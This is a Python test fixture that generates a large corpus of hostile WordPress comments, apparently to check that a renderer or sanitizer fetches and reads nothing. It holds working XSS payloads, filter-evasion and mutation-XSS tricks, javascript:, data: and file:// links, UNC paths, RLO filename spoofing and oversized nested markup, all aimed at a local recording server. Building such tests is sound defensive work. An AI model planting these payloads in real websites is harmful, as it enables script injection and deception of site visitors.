"""A hostile corpus of reader comments: bodies, author names and author URLs.

Every remote resource points at ``remote`` (a recording server of the test on 127.0.0.1)
and every local file at ``local_file``, so a test can tell whether anything was fetched or
read. Lone UTF-16 surrogates cannot be stored by WordPress; the markers ``NDSURRHI`` and
``NDSURRLO`` are turned into the JSON escapes ``\\ud800`` and ``\\udfff`` on the way out by
the test site (see wordpress/seed-hostile-comments.php).
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import cycle

SURROGATE_HIGH = "NDSURRHI"
SURROGATE_LOW = "NDSURRLO"
RLO, PDF, LRO, RLI, PDI = "\u202e", "\u202c", "\u202d", "\u2067", "\u2069"
ZERO_WIDTH = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e")
EVASION = "العقـ.ـوبات"
STATUSES = ("0", "1", "0", "spam", "trash")

# Every event handler attribute of HTML, SVG and old browsers worth trying.
EVENT_HANDLERS = (
    "onabort", "onafterprint", "onanimationend", "onanimationiteration", "onanimationstart",
    "onauxclick", "onbeforecopy", "onbeforeinput", "onbeforeprint", "onbeforeunload", "onbegin",
    "onblur", "oncanplay", "oncanplaythrough", "onchange", "onclick", "onclose",
    "oncontextmenu", "oncopy", "oncuechange", "oncut", "ondblclick", "ondrag", "ondragend",
    "ondragenter", "ondragleave", "ondragover", "ondragstart", "ondrop", "ondurationchange",
    "onend", "onended", "onerror", "onfocus", "onfocusin", "onfocusout", "onhashchange",
    "oninput", "oninvalid", "onkeydown", "onkeypress", "onkeyup", "onload", "onloadeddata",
    "onloadedmetadata", "onloadstart", "onmessage", "onmousedown", "onmouseenter",
    "onmouseleave", "onmousemove", "onmouseout", "onmouseover", "onmouseup", "onmousewheel",
    "onpageshow", "onpaste", "onpause", "onplay", "onplaying", "onpointerdown",
    "onpointerenter", "onpopstate", "onprogress", "onrepeat", "onreset", "onresize",
    "onscroll", "onsearch", "onseeked", "onselect", "onselectstart", "onshow", "onstorage",
    "onsubmit", "ontoggle", "ontouchstart", "ontransitionend", "onunload", "onvolumechange",
    "onwaiting", "onwheel", "onactivate", "onbeforeactivate", "onfilterchange", "onreadystatechange",
)  # fmt: skip

# How an event handler attribute can be spelled (tag, name, JavaScript).
HANDLER_STYLES = (
    '<img src="{u}/img/{n}.png" {n}="fetch(\'{u}/ev/{n}\')">',
    "<IMG SRC=x {N}=fetch('{u}/ev/{n}')//>",
    "<p/{n}=`fetch('{u}/ev/{n}')`>text {n}</p>",
    '<svg {n}="fetch(&#39;{u}/ev/{n}&#39;)"><a>{n}</a></svg>',
)


@dataclass(frozen=True)
class HostileComment:
    """One comment to seed: a body, its author and the status it is filed under."""

    content: str
    author_name: str
    author_url: str
    author_email: str
    status: str
    kind: str


def _handlers(remote: str) -> list[tuple[str, str]]:
    bodies = []
    styles = cycle(HANDLER_STYLES)
    for name in EVENT_HANDLERS:
        for _ in range(2):
            style = next(styles)
            bodies.append((style.format(u=remote, n=name, N=name.upper()), "handler"))
    # Separators browsers accept between attributes.
    for sep in ("\n", "\t", "/", "\x0c", '"', "'"):
        bodies.append((f"<img src=x{sep}onerror=fetch('{remote}/sep/{ord(sep)}')>", "handler"))
    return bodies


def _schemes(remote: str, local_file: str) -> list[str]:
    host = remote.split("//", 1)[1]
    ip, port = host.split(":")
    targets = (
        "javascript:fetch('{u}/js')",
        "JaVaScRiPt:fetch('{u}/js2')",
        " javascript:fetch('{u}/js3')",
        "java\tscript:fetch('{u}/js4')",
        "java&#x09;script:fetch('{u}/js5')",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;fetch('{u}/js6')",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;fetch('{u}/js7')",
        "javascript&colon;fetch('{u}/js8')",
        "\u200bjavascript:fetch('{u}/js9')",
        "vbscript:msgbox(1)",
        'VBSCRIPT:Execute("x")',
        "data:text/html;base64,PHNjcmlwdD5mZXRjaCgnLycpPC9zY3JpcHQ+",
        "data:text/html,<img src='{u}/data-html'>",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}/svg'/></svg>",
        "data:image/png;base64," + "iVBORw0KGgo" * 2000,
        "{f}",
        "file://localhost{p}",
        "FILE:{p}",
        "file:/{p}",
        "\\\\{ip}@{port}\\share\\unc.png",
        "\\\\?\\UNC\\{ip}@{port}\\share\\x",
        "//{ip}:{port}/protocol-relative",
        "/\\{ip}:{port}/slash-backslash",
        "{u}/plain-loopback",
        "http://{ip}:{port}@evil.example/userinfo",
        "http://0x7f.1:{port}/hex-ip",
        "http://[::ffff:{ip}]:{port}/mapped",
        "http://localhost:{port}/localhost",
        "ms-its:mhtml:file://C:/x.mht!{u}/mhtml",
        "jar:{u}/x.jar!/",
        "view-source:{u}/vs",
    )
    values = [
        target.format(u=remote, f=local_file, p=local_file[len("file://") :], ip=ip, port=port)
        for target in targets
    ]
    wrappers = (
        '<a href="{v}">رابط</a>',
        '<img src="{v}">',
        '<iframe src="{v}"></iframe>',
        '<form action="{v}"><button formaction="{v}">x</button></form>',
    )
    return [wrapper.format(v=value) for value in values for wrapper in wrappers]


def _resources(remote: str, local_file: str) -> list[str]:
    u, f = remote, local_file
    return [
        f'<img src="{u}/img.png" alt="صورة">',
        f"<img src={u}/unquoted.png>",
        f'<img srcset="{u}/a.png 1x, {u}/b.png 2x">',
        f'<img src="x" srcset="{f} 1x">',
        f'<picture><source srcset="{u}/picture.webp"><img src="{u}/pic.png"></picture>',
        f'<video src="{u}/v.mp4" poster="{u}/poster.png" autoplay></video>',
        f'<video><source src="{u}/source.mp4"><track src="{u}/track.vtt"></video>',
        f'<audio src="{u}/a.mp3" autoplay></audio>',
        f'<iframe src="{u}/frame"></iframe>',
        f'<iframe srcdoc="&lt;img src=&quot;{u}/srcdoc&quot;&gt;"></iframe>',
        f'<frameset><frame src="{u}/frame2"></frameset>',
        f'<object data="{u}/object.swf"></object>',
        f'<object data="{f}" type="text/plain"></object>',
        f'<embed src="{u}/embed.swf">',
        f'<applet code="x" codebase="{u}/applet"></applet>',
        f'<link rel="stylesheet" href="{u}/style.css">',
        f'<link rel="prefetch" href="{u}/prefetch"><link rel="dns-prefetch" href="{u}/dns">',
        f'<link rel="preload" as="image" href="{u}/preload.png">',
        f'<link rel="import" href="{u}/import.html">',
        f'<meta http-equiv="refresh" content="0;url={u}/refresh">',
        f'<meta http-equiv="refresh" content="0;url={f}">',
        f'<meta http-equiv="Set-Cookie" content="a=b"><base href="{u}/base/"><img src="rel.png">',
        f'<svg><image href="{u}/svg-image.png"/></svg>',
        f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{u}/xlink.png"/></svg>',
        f'<svg><use href="{u}/use.svg#x"/></svg>',
        f'<svg><filter><feImage href="{u}/feimage"/></filter></svg>',
        f'<svg><script href="{u}/svg-script.js"/></svg>',
        f"<svg><a xlink:href=\"javascript:fetch('{u}/svg-a')\"><text>x</text></a></svg>",
        f"<svg><style>@import '{u}/svg-style.css';</style></svg>",
        f'<math href="{u}/math"><mi>x</mi></math>',
        f'<table background="{u}/table-bg.png"><tr><td background="{u}/td.png">خلية</td></tr></table>',
        f'<body background="{u}/body-bg.png">',
        f'<input type="image" src="{u}/input.png">',
        f'<isindex action="{u}/isindex">',
        f'<bgsound src="{u}/bgsound.wav">',
        f'<portal src="{u}/portal"></portal>',
        f'<p style="background:url({u}/bg.png)">خلفية</p>',
        f"<p style=\"background-image:url('{f}')\">ملف</p>",
        f'<p style="background:url(&quot;{u}/entity-url&quot;)">x</p>',
        f'<p style="background:u\\72l({u}/escaped-url)">x</p>',
        f'<p style="list-style-image:url({u}/list.png)"><b>x</b></p>',
        f'<p style="cursor:url({u}/cursor.cur),auto">x</p>',
        f'<p style="behavior:url({u}/x.htc)">x</p>',
        f'<p style="-moz-binding:url({u}/xbl.xml#x)">x</p>',
        f"<p style=\"width:expression(fetch('{u}/expression'))\">x</p>",
        f"<p style=\"@import '{u}/attr-import.css'\">x</p>",
        f"<style>@import '{u}/import.css';</style><p>نص</p>",
        f'<style>@import url("{u}/import2.css");p{{background:url({u}/p.png)}}</style>',
        f"<style>@font-face{{font-family:x;src:url({u}/font.woff)}}p{{font-family:x}}</style>",
        f"<style>p{{background:url({f})}}</style><p>ملف</p>",
        f'<STYLE>li {{list-style-image: url("{u}/li.png");}}</STYLE><UL><LI>x</UL>',
        f'<div style="background:url({u}/div.png)"><a href="https://example.com/">ok</a></div>',
        f'<img src="{u}/lazy.png" loading="lazy" decoding="async">',
        f'<a ping="{u}/ping" href="https://example.com/">ping</a>',
        f'<img src="\\\\127.0.0.1\\share\\unc.png"><img src="{f}">',
    ]


def _evasions(remote: str) -> list[str]:
    u = remote
    return [
        "<script>fetch('" + u + "/s1')</script>",
        f'<script src="{u}/s2.js"></script>',
        f"<SCRIPT SRC={u}/s3.js></SCRIPT>",
        f"<scr<script>ipt>fetch('{u}/s4')</scr</script>ipt>",
        f"<<script>>fetch('{u}/s5')<</script>>",
        f"<script/x src={u}/s6.js></script>",
        f"<scr\x00ipt>fetch('{u}/s7')</scr\x00ipt>",
        f'<script\n>fetch("{u}/s8")</script\n>',
        f"<img src=x onerror\n=fetch('{u}/s9')>",
        f"<img src=x onerror  =  fetch('{u}/s10')>",
        f'<img """><script>fetch("{u}/s11")</script>">',
        f"<!--<img src=\"--><img src=x onerror=fetch('{u}/s12')//\">",
        f"<![CDATA[<script>fetch('{u}/s13')</script>]]>",
        f"<noscript><p title=\"</noscript><img src=x onerror=fetch('{u}/s14')>\"></noscript>",
        f"<svg><style><img src=x onerror=fetch('{u}/s15')></style></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror=fetch('{u}/s16')>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror=fetch('{u}/s17')>",
        f"<template><script>fetch('{u}/s18')</script></template>",
        f"<textarea><script>fetch('{u}/s19')</script></textarea>",
        f"<title><img src=x onerror=fetch('{u}/s20')></title>",
        f"<xmp><img src=x onerror=fetch('{u}/s21')></xmp>",
        f"<plaintext><img src=x onerror=fetch('{u}/s22')>",
        f'<a href="https://example.com/" onmouseover="fetch(\'{u}/s23\')">مثال</a>',
        f"<a href=\"https://example.com/\"\nonclick=fetch('{u}/s24')>x</a>",
        f'<a href="https://example.com/" style="background:url({u}/s25)">x</a>',
        f'<a href="https://exam\u200bple.com/">مخفي</a><a href="https://example.com/{RLO}gpj.exe">x</a>',
        f'<a href="https://example.com/" title=\'"><script>fetch("{u}/s26")</script>\'>x</a>',
        f'<a href="https://user@example.com/">userinfo</a><a href="http://{u[7:]}/s27">lo</a>',
        f"<div><p><b><i><code>{EVASION}</code></i></b></p></div><img src={u}/s28>",
        f"<p>ع.ق.و.ب.ا.ت و ا-ل-ع-ق-و-ب-ا-ت</p><img/src={u}/s29>",
        f"<IMG SRC=\"jav&#x0A;ascript:fetch('{u}/s30');\">",
        f"<IMG SRC=`javascript:fetch('{u}/s31')`>",
        f"<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058fetch('{u}/s32')\">e</a>",
        f'<img src="{u}/s33.png"/onerror="x">',
        f"<ScRiPt>fetch('{u}/s34')</sCrIpT>",
        f"<object><param name=src value={u}/s35></object>",
        f"<div style=\"x:\\65 xpression(fetch('{u}/s36'))\">x</div>",
        f'<base href="javascript:/"><a href="/x">rel</a><img src="{u}/s37">',
        f'<a href="{u}/s38" download>download</a>',
        f"<details open ontoggle=fetch('{u}/s39')><summary>x</summary></details>",
        f"<marquee onstart=fetch('{u}/s40')>x</marquee>",
        f"<x contenteditable onblur=fetch('{u}/s41')>x</x>",
        f"<keygen autofocus onfocus=fetch('{u}/s42')>",
        f"<iframe src=\"javascript:fetch('{u}/s43')\"></iframe>",
        f"<embed src=\"data:text/html,<script>fetch('{u}/s44')</script>\">",
        f"<img src=x:alert(1) onerror=eval(atob('ZmV0Y2goJy8nKQ=='))>{u}/s45",
    ]


def _structure(remote: str) -> list[tuple[str, str]]:
    u = remote
    arabic = "في خضم العقوبات المفروضة على الاقتصاد، يرى القراء أن الحل سياسي. "
    return [
        ("<div>" * 5000 + f"<img src={u}/deep-div>" + "</div>" * 5000, "nesting"),
        ("<blockquote>" * 3000 + "اقتباس عميق" + "</blockquote>" * 3000, "nesting"),
        ("<b><i>" * 2500 + "غامق" + "</i></b>" * 2500, "nesting"),
        ("<p>" * 10000 + f"<img src={u}/unclosed-p>", "nesting"),
        ("<ul><li>" * 2500 + f"<img src={u}/deep-list>" + "</li></ul>" * 2500, "nesting"),
        ("<span>" * 20000 + "x", "nesting"),
        ("<a href='https://example.com/'>" * 3000 + "x" + "</a>" * 3000, "nesting"),
        (f"<svg>{'<g>' * 4000}<image href='{u}/deep-svg'/>{'</g>' * 4000}</svg>", "nesting"),
        ("<p>" + arabic * 5000 + "</p>", "huge"),  # ~330 KB
        ("<a href='https://example.com/'>رابط</a> " * 9000, "huge"),  # ~370 KB
        ("".join(f"<img src='{u}/huge/{i}'>" for i in range(8000)), "huge"),  # ~300 KB
        ("ب" * 250_000, "huge"),  # one word, no space
        ("<b>x</b>" * 40_000, "huge"),  # 320 KB of tags
        (f"<p>{'&#x202E;' * 20000}</p><img src={u}/entities>", "huge"),
    ]


def _text_tricks() -> list[str]:
    zw = "".join(ZERO_WIDTH)
    return [
        f"<p>{SURROGATE_HIGH} نص بعد نصف بديل</p>",
        f"<p>قبل {SURROGATE_LOW}</p>",
        f"<p>{SURROGATE_LOW}{SURROGATE_HIGH} مقلوب</p>",
        f"{SURROGATE_HIGH * 50}",
        f"<p>{RLO}ﺏﺮﻋ txet desrever{PDF} عادي</p>",
        f"<p>{LRO}عربي مقلوب{PDF}</p><p>{RLI}معزول{PDI}</p>",
        f"<p>{RLO * 500}</p>",
        f"<p>ال{zw}عقو{zw}بات</p>",
        f"<p>{EVASION} و العـــقوبات و الـعقوبات</p>",
        "<p>\x00NUL\x01\x02\x1b[31m ANSI \x7f</p>",
        "<p>LOUD SPAM BUY NOW!!! http://spam.example/ http://spam.example/ http://spam.example/</p>",
        "<p>3ala fekra el 3o2oubat 7ilwa</p>",
        "<p>" + "\u0651" * 3000 + "</p>",  # combining marks (Zalgo-like)
        "<p>" + "🇸🇾" * 2000 + "</p>",
    ]


def _names(remote: str, local_file: str) -> list[str]:
    return [
        "قارئ عادي",
        f"{RLO}gnp.exe",
        f"محمد{RLO}evil{PDF}",
        f"{LRO}أحمد{PDF}",
        f"{RLI}سارة",
        f"Ali{PDI}{PDI}{PDI}",
        "\u200bمخفي\u200b",
        "علي\u2060\ufeff\u00ad",
        "\u200f\u200e\u061cاسم",
        f"<img src={remote}/name.png onerror=fetch('{remote}/name')>",
        "\"><script>fetch('/name2')</script>",
        "<b>غامق</b>",
        "اسم طويل جدا " * 9,  # comment_author is TINYTEXT: 255 bytes at most
        "W" * 250,
        f"{SURROGATE_HIGH}اسم",
        f"x{SURROGATE_LOW}",
        "NUL\x00name\x1b",
        "\u3164\u115f\u1160",
        EVASION,
        "Admin\u200d",
        f"{local_file}",
        "javascript:alert(1)",
        "ﷺ" * 50,
    ]


def _urls(remote: str, local_file: str) -> list[str]:
    host = remote.split("//", 1)[1]
    ip, port = host.split(":")
    return [
        "",
        "https://example.com/",
        f"{remote}/author-url",
        "javascript:fetch('/author')",
        "data:text/html,<script>1</script>",
        "vbscript:msgbox",
        local_file,
        f"\\\\{ip}@{port}\\share",
        f"//{ip}:{port}/author",
        f"https://example.com/{RLO}gnp.exe",
        "https://exa\u200bmple.com/",
        "https://example.com/\u202a\u2066\u200f",
        "https://مثال.إختبار/مسار",
        f"https://example.com/{'a' * 175}",  # comment_author_url is VARCHAR(200)
        f"https://example.com/{SURROGATE_HIGH}",
        "http://user:pass@example.com/",
    ]


def build_corpus(remote: str, local_file: str) -> list[HostileComment]:
    """Return the corpus; remote is ``http://127.0.0.1:PORT``, local_file a ``file://`` URL."""
    bodies: list[tuple[str, str]] = []
    bodies += _handlers(remote)
    bodies += [(body, "scheme") for body in _schemes(remote, local_file)]
    bodies += [(body, "resource") for body in _resources(remote, local_file)]
    bodies += [(body, "evasion") for body in _evasions(remote)]
    bodies += _structure(remote)
    bodies += [(body, "text") for body in _text_tricks()]
    names = _names(remote, local_file)
    urls = _urls(remote, local_file)
    return [
        HostileComment(
            content=body,
            author_name=names[index % len(names)],
            author_url=urls[index % len(urls)],
            author_email=f"hostile{index % 37}@example.test",
            status=STATUSES[index % len(STATUSES)],
            kind=kind,
        )
        for index, (body, kind) in enumerate(bodies)
    ]
